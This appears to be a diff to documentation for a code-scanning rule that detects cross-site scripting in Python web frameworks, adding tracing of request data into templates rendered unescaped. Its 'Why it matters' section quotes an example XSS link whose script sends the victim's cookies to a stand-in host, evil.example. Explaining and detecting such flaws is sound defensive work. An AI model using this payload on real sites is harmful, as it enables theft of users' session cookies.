@@ -12,9 +12,18 @@ each step, across functions and modules. It stays quiet when the value went thro
 (`nh3.clean()`, `bleach.clean()`), for constant strings and for flows that only exist through a dead
 branch. Like every taint rule, it treats as clean the values converted to a number, `UUID`,
 `Decimal`, date or IPv4, and values checked before the sink against a constant allow-list (`if
-value not in ALLOWED: abort(400)`) or a full-match regular expression. Values rendered through an
-auto-escaping template (`render_template()`, Django's `render()`) and JSON responses are not
+value not in ALLOWED: abort(400)`) or a full-match regular expression. JSON responses are not
 reported.
+
+It follows the data into template files too. A view that renders a template by name (Django's
+`render()`, `render_to_string()`, `TemplateResponse`, a class-based view's `get_context_data()`
+with its `template_name`; Flask's `render_template()`; Starlette and FastAPI's
+`Jinja2Templates.TemplateResponse()`) is reported when a context variable filled from request data
+is printed unescaped by that template: through the `|safe` or `|safeseq` filter, or inside an
+`{% autoescape off %}` (Jinja2: `false`) block, in the template itself or in one it includes or
+extends. The trace ends at the template's line. Templates are looked up by name under the
+project's `templates/` and `jinja2/` directories; variables the template prints normally are
+auto-escaped and not reported, and `{{ value|escape|safe }}` is escaped first.
 
 ## Why it matters
 A link like `/search?q=<script>fetch("//evil.example/?c="+document.cookie)</script>` runs the
